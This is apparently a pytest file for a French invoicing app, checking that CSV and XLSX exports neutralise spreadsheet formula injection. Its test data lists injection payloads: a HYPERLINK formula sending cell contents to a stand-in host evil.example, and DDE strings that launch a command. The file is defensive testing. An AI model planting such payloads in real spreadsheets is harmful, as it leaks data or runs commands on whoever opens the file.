"""Formulas typed by a client or a pro are shown, never run, in every
spreadsheet we export (issue 10, OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from common.spreadsheets import csv_bytes, neutralise, xlsx_bytes, xlsx_workbook
from reviews import invoice_exports

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
    "=1+1",
    "+33 6 12 34 56 78+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
]
PLAIN = ["Marie Dupont", "F-2025-001", "marie@example.org", "", "1 234,56", "Dupont-Durand"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_start_is_neutralised(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [*PLAIN, Decimal("-3.50"), -3, None])
def test_plain_text_and_numbers_are_unchanged(value):
    assert neutralise(value) == value


def test_csv_export_neutralises_every_text_cell():
    content = csv_bytes([["nom", "montant"], *[[value, Decimal("-1")] for value in HOSTILE]])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [row[0] for row in rows[1:]] == ["'" + value for value in HOSTILE]
    assert {row[1] for row in rows[1:]} == {"-1"}  # a number stays a number


def test_xlsx_export_holds_no_formula_and_shows_the_text():
    content = xlsx_bytes(xlsx_workbook([[value, 5] for value in HOSTILE], title="Export"))
    sheet = load_workbook(io.BytesIO(content)).active
    cells = list(sheet.iter_rows())
    assert all(cell.data_type != "f" for row in cells for cell in row)
    # XML keeps no bare carriage return: it reads back as a line feed.
    expected = ["'" + value.replace("\r", "\n") for value in HOSTILE]
    assert [row[0].value for row in cells] == expected
    assert {row[1].value for row in cells} == {5}


@pytest.mark.parametrize("template", ["csv", "xlsx"])
def test_the_invoice_templates_are_written_through_the_neutralising_writers(monkeypatch, template):
    """The served templates: hostile text in the example row (as if it
    came from a pro) comes out neutralised."""
    monkeypatch.setitem(invoice_exports.TEMPLATE_EXAMPLE, "client_name", "=1+1")
    monkeypatch.setitem(invoice_exports.TEMPLATE_EXAMPLE, "client_company", "@SUM(A1)")
    if template == "csv":
        text = invoice_exports.template_csv().decode("utf-8-sig")
        assert ";'=1+1;'@SUM(A1);" in text
    else:
        sheet = load_workbook(io.BytesIO(invoice_exports.template_xlsx())).active
        assert [sheet["D2"].value, sheet["E2"].value] == ["'=1+1", "'@SUM(A1)"]
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


# Files that may write a spreadsheet without the neutralising writers: the
# writers themselves, and the worker's internal copy of a preview (never
# served: neutralising it would change the data imported).
WRITERS_ALLOWED = {
    "common/spreadsheets.py": "",
    "reviews/services/invoices.py": "invoices_file_content",
}


def test_no_other_module_writes_a_spreadsheet():
    root = Path(__file__).resolve().parents[2]
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(\)")
    found = []
    for path in root.glob("*/**/*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith((".venv/", "tests/")) or "/migrations/" in relative:
            continue
        if writers.search(path.read_text(encoding="utf-8")) and relative not in WRITERS_ALLOWED:
            found.append(relative)
    assert not found, "write spreadsheets through common.spreadsheets"
